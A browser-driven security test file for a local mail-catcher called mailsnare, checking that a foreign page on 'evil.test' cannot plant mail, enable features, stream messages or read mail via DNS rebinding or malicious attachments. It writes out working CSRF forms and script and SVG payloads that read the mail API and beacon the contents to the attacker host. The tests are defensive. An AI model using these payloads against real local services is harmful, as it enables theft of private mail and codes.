// The web boundary (../shared/spec/security.md items 1–4): a real foreign page, served by this
// test on another origin, tries each attack that worked against earlier builds, and a hostile
// mail's preview is clicked. Each attack's effect is what is checked: the foreign site's beacon
// must never receive captured mail, and nothing may be planted, deleted or switched on.

import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { startServer, launch, openPage, sendOne, buildMessage, apiJson, PNG_RED } from './helpers.mjs';

// evil.test and rebind.test are names a page could have; both resolve to this machine. Chromium's
// own guard for pages reaching local addresses is switched off: not every browser has it, and
// these tests are about mailsnare's defences.
const browser = await launch([
  '--host-resolver-rules=MAP evil.test 127.0.0.1, MAP rebind.test 127.0.0.1',
  '--disable-features=LocalNetworkAccessChecks,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults,BlockInsecurePrivateNetworkRequests',
]);

/** The attacker's site: serves `pages` and records what reaches its /beacon. */
async function foreignSite(pages) {
  const beacons = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c) => { body += c; });
    req.on('end', () => {
      const url = new URL(req.url, 'http://evil.test');
      if (url.pathname === '/beacon') {
        beacons.push(`${url.searchParams.get('what') || ''} ${body}`.trim());
        res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
        return res.end();
      }
      const page = pages[url.pathname];
      if (!page) {
        res.writeHead(404);
        return res.end();
      }
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(page);
    });
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  after(() => server.close());
  const port = server.address().port;
  return { origin: `http://evil.test:${port}`, beacons };
}

const SECRET = 'reset code 918273';

test('a foreign page cannot plant mail, switch on chaos, or read mail through a planted part', async () => {
  const mail = await startServer();
  await sendOne(mail, { from: 'app@example.com', to: ['dev@example.com'], data: buildMessage({ subject: 'Your code', text: SECRET }) });
  const target = mail.base;
  // The chain that worked before: a text/plain form body posted to /api/v1/send plants a mail
  // with an HTML attachment whose script reads the API; then the page navigates to that part.
  const payload = `<script>fetch('/api/v1/messages').then(r=>r.text()).then(t=>navigator.sendBeacon('BEACON?what=part',t))</script>`;
  const site = await foreignSite({});
  const sendBody = JSON.stringify({
    From: { Email: 'evil@example.com' }, To: [{ Email: 'dev@example.com' }], Subject: 'planted',
    HTML: '<p>x</p>',
    Attachments: [{ Filename: 'x.html', ContentType: 'text/html', Content: Buffer.from(payload.replace('BEACON', `${site.origin}/beacon`)).toString('base64') }],
  });
  const attack = `<!doctype html><body>
<iframe name="sink"></iframe>
<form id="send" method="post" action="${target}/api/v1/send" enctype="text/plain" target="sink">
<input name='${sendBody.slice(0, -1)},"x":"' value='"}'></form>
<form id="jim" method="post" action="${target}/api/v2/jim" enctype="text/plain" target="sink"><input name="a" value="b"></form>
<form id="jim2" method="post" action="${target}/api/v2/jim" target="sink"></form>
<script>
document.getElementById('send').submit();
setTimeout(() => document.getElementById('jim').submit(), 300);
setTimeout(() => document.getElementById('jim2').submit(), 600);
setTimeout(() => { document.title = 'submitted'; }, 1200);
</script></body>`;
  site.pages = { '/attack': attack };
  const siteWithPage = await foreignSite({ '/attack': attack });
  const ctx = await browser.newContext();
  const page = await ctx.newPage();
  await page.goto(`${siteWithPage.origin}/attack`);
  await page.waitForFunction(() => document.title === 'submitted');
  const list = await apiJson(mail, '/api/v1/messages');
  assert.equal(list.total, 1, 'no mail was planted');
  const jim = await fetch(`${target}/api/v2/jim`);
  assert.equal(jim.status, 404, 'Jim is still off');
  // Whatever part the page navigates to is a download or an inert document, never our origin's
  // script: plant one over SMTP (which is allowed) and open it top-level from the foreign page.
  const planted = await sendOne(mail, {
    from: 'evil@example.com', to: ['dev@example.com'],
    data: buildMessage({ subject: 'parts', html: '<p>hi</p>', attachments: [
      { name: 'x.html', type: 'text/html', base64: Buffer.from(payload.replace('BEACON', `${site.origin}/beacon`)).toString('base64') },
      { name: 'x.svg', type: 'image/svg+xml', base64: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('/api/v1/messages').then(r=>r.text()).then(t=>navigator.sendBeacon('${site.origin}/beacon?what=svg',t))</script></svg>`).toString('base64') },
    ] }),
  });
  for (const partId of ['2', '3']) {
    const downloads = [];
    page.once('download', (d) => downloads.push(d.suggestedFilename()));
    await page.goto(`${target}/api/v1/message/${planted}/part/${partId}`).catch(() => {});
    await page.waitForTimeout(300);
    assert.equal(downloads.length, 1, `part ${partId} is downloaded, not shown`);
  }
  // Even the raw message and the text view, opened top-level, run nothing.
  await page.goto(`${target}/api/v1/message/${planted}/raw`);
  await page.goto(`${target}/view/${planted}.txt`);
  await page.waitForTimeout(500);
  assert.deepEqual(site.beacons, [], 'no script of the mail ran in our origin');
  await ctx.close();
});

test('a foreign page gets no live stream of new mail', async () => {
  const mail = await startServer();
  const wsUrl = mail.base.replace('http:', 'ws:');
  const attack = `<!doctype html><body><script>
const report = (what) => fetch('/beacon?what=' + encodeURIComponent(what), { method: 'POST' });
for (const path of ['/api/events', '/api/v2/websocket']) {
  const ws = new WebSocket('${wsUrl}' + path);
  ws.onopen = () => report('open ' + path);
  ws.onmessage = (e) => report('frame ' + path + ' ' + e.data);
  ws.onerror = () => report('error ' + path);
}
const es = new EventSource('${mail.base}/api/v1/events');
es.onopen = () => report('open sse');
es.onmessage = (e) => report('frame sse ' + e.data);
es.onerror = () => { report('error sse'); es.close(); };
</script></body>`;
  const site = await foreignSite({ '/attack': attack });
  const ctx = await browser.newContext();
  const page = await ctx.newPage();
  await page.goto(`${site.origin}/attack`);
  // Wait until all three attempts have reported, then send mail they must not see.
  const until = Date.now() + 10_000;
  while (site.beacons.filter((b) => /^(open|error) /.test(b)).length < 3 && Date.now() < until) {
    await new Promise((r) => setTimeout(r, 50));
  }
  await sendOne(mail, { from: 'app@example.com', to: ['dev@example.com'], data: buildMessage({ subject: 'Your code', text: SECRET }) });
  await page.waitForTimeout(1000);
  assert.deepEqual(site.beacons.filter((b) => !b.startsWith('error ')), [], `the page saw: ${site.beacons.join(' | ')}`);
  assert.equal(site.beacons.length, 3, 'all three were refused');
  await ctx.close();
});

test('a rebinding name is not served, while localhost and IP literals are', async () => {
  const mail = await startServer();
  await sendOne(mail, { from: 'app@example.com', to: ['dev@example.com'], data: buildMessage({ subject: 'Your code', text: SECRET }) });
  const ctx = await browser.newContext();
  const page = await ctx.newPage();
  // rebind.test resolves to 127.0.0.1 as a rebinding page's name would: same origin as the API.
  const rebound = `http://rebind.test:${mail.httpPort}`;
  for (const path of ['/api/v1/messages', '/', `/api/v1/message/latest`]) {
    const res = await page.goto(`${rebound}${path}`);
    assert.equal(res.status(), 403, path);
    assert.doesNotMatch(await page.content(), /918273/);
  }
  // The attack itself: the page was served by the attacker under that name (simulated here by
  // answering its first request), then the name points at 127.0.0.1 and the page reads the API
  // as its own origin.
  await page.route(`${rebound}/attack`, (route) => route.fulfill({
    contentType: 'text/html',
    body: '<!doctype html><script>fetch("/api/v1/messages").then(async r => { window.seen = r.status + " " + await r.text(); }, (e) => { window.seen = "failed " + e; })</script>',
  }));
  await page.goto(`${rebound}/attack`);
  await page.waitForFunction(() => window.seen !== undefined);
  const seen = await page.evaluate(() => window.seen);
  assert.match(seen, /^403 /);
  assert.doesNotMatch(seen, /918273/);
  for (const name of [`localhost:${mail.httpPort}`, `127.0.0.1:${mail.httpPort}`]) {
    const res = await page.goto(`http://${name}/api/v1/messages`);
    assert.equal(res.status(), 200, name);
  }
  await ctx.close();
});

test('links in the preview open in a new tab with no opener; cid: and links into mailsnare do not escape', async () => {
  const mail = await startServer();
  const landing = await foreignSite({ '/verify': '<!doctype html><title>landing</title><script>document.title = "landing " + (window.opener === null) + " " + document.referrer.length</script>' });
  // The attack that worked: the preview linked cid:page@x to the HTML part, and a click opened it
  // outside the sandbox, where its script read every message.
  const payload = `<script>fetch('/api/v1/messages').then(r=>r.text()).then(t=>navigator.sendBeacon('${landing.origin}/beacon?what=part',t))</script>`;
  const html = `<p><a id="verify" href="${landing.origin}/verify?token=abc">Verify your address</a></p>
<p><a id="cidlink" href="cid:page@x" target="_blank">attachment link</a></p>
<p><a id="own" href="/api/v1/messages" target="_blank">into mailsnare</a></p>
<p><a id="js" href="javascript:top.pwned=1">js</a></p>
<img id="pic" src="cid:pic@x">`;
  const body = buildMessage({ subject: 'Verify', html, inline: [
    { cid: 'pic@x', type: 'image/png', base64: PNG_RED },
    { cid: 'page@x', type: 'text/html', base64: Buffer.from(payload).toString('base64') },
  ] });
  const id = await sendOne(mail, { from: 'app@example.com', to: ['dev@example.com'], data: body });
  const { page, context } = await openPage(browser, `${mail.base}/#m=${id}`);
  const frameEl = await page.waitForSelector('iframe.html-frame');
  const frame = await frameEl.contentFrame();
  await frame.waitForSelector('#verify');
  await frame.waitForFunction(() => document.getElementById('pic').complete && document.getElementById('pic').naturalWidth > 0);

  const popups = [];
  context.on('page', (p) => popups.push(p));
  const before = page.url();
  for (const link of ['#cidlink', '#own', '#js']) await frame.click(link);
  await page.waitForTimeout(1000);
  assert.deepEqual(landing.beacons, [], "the part's script never ran");
  assert.deepEqual(popups.map((p) => p.url()), [], 'nothing was opened');
  assert.equal(page.url(), before);
  assert.equal(await page.evaluate(() => window.pwned), undefined);

  assert.equal(await frameEl.getAttribute('sandbox'), 'allow-same-origin', 'no scripts, popups or escapes');
  // Nothing runs in the frame, even though it is same-origin: the server's policy forbids it.
  const scripted = await frame.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.ran = 1';
    document.body.append(s);
    return window.ran === 1;
  }).catch(() => false);
  assert.equal(scripted, false);

  // A plain click on an ordinary link opens it in a new tab, from the UI, with no opener.
  const opened = context.waitForEvent('page');
  await frame.click('#verify');
  const tab = await opened;
  await tab.waitForFunction(() => document.title.startsWith('landing'));
  assert.equal(tab.url(), `${landing.origin}/verify?token=abc`);
  assert.equal(await tab.title(), 'landing true 0', 'no opener and no referrer');
  await context.close();
});
